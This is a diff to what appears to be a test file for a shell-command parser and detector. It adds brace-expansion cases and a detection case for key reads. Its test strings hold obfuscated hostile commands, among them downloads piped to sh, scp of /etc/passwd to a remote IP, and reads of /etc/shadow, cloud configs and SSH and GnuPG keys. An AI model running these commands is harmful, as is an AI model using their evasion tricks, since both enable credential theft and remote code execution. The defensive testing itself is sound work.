@@ -47,6 +47,10 @@ describe('what a hidden script runs is parsed as if typed', () => {
     expect(argvs('wget${IFS}-q${IFS}http://198.51.100.7/x')).toEqual(['wget -q http://198.51.100.7/x']);
     expect(argvs('{scp,/etc/passwd,u@198.51.100.7:}')).toEqual(['scp /etc/passwd u@198.51.100.7:']);
     expect(argvs('cp src/{a,b}.ts out/')).toEqual(['cp src/a.ts src/b.ts out/']);
+    // Every group, an inner one first; a group with no comma is text (find's {}, a literal {x}).
+    expect(argvs('cat ~/.{kube,docker}/{config,config.json}')).toEqual(['cat ~/.kube/config ~/.kube/config.json ~/.docker/config ~/.docker/config.json']);
+    expect(argvs('ls {a,{b,c}}x')).toEqual(['ls ax bx cx']);
+    expect(argvs('echo {x}{1,2}')).toEqual(['echo {x}1 {x}2']);
     expect(argvs('/usr/bin/w?et -qO- http://198.51.100.7/')).toEqual(['/usr/bin/wget -qO- http://198.51.100.7/']);
     // Quoted, the braces and the variable are text; a glob several programs match stays as typed.
     expect(argvs("echo '{a,b}' \"x${IFS}y\"")).toEqual(['echo {a,b} x${IFS}y']);
@@ -62,6 +66,7 @@ describe('detections on hidden payloads', () => {
     ['shadow read with the separator as a variable', 'cat${IFS}/etc/shadow', 'password-hash-read'],
     ['octal escapes printed into sh', "printf '\\151\\144 -u' | sh", 'decoded-payload-to-shell'],
     ['a download piped to a shell, brace-listed', '{wget,-qO-,http://198.51.100.7/i.sh}|sh', 'download-piped-to-shell'],
+    ['keys read through two brace lists', 'head -c 4096 ~/.{ssh,gnupg}/{id_ecdsa,secring.gpg}', 'secret-read'],
   ])('%s', (_name, command, rule) => {
     expect(ruleOf(command)).toContain(rule);
   });
